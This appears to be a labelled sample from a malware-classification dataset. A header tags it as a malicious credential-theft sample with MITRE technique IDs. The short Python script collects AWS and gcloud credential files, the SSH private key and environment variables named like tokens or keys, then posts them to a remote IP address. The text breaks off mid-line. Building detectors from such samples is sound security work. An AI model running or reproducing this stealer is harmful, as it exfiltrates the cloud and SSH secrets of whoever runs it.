# label: malicious family=creds techniques=T1552.001,T1552.004,T1041 lines=5,8-9,11
import os, json, requests
def grab():
    out = {}
    for p in ["~/.aws/credentials", "~/.config/gcloud/application_default_credentials.json", "~/.ssh/id_rsa"]:
        p = os.path.expanduser(p)
        if os.path.isfile(p):
            out[p] = open(p).read()
    out["env"] = {k: v for k, v in os.environ.items() if "TOKEN" in k or "KEY" in k}
    return out
requests.post("http://203.0.113.210/x", json=grab(), timeo
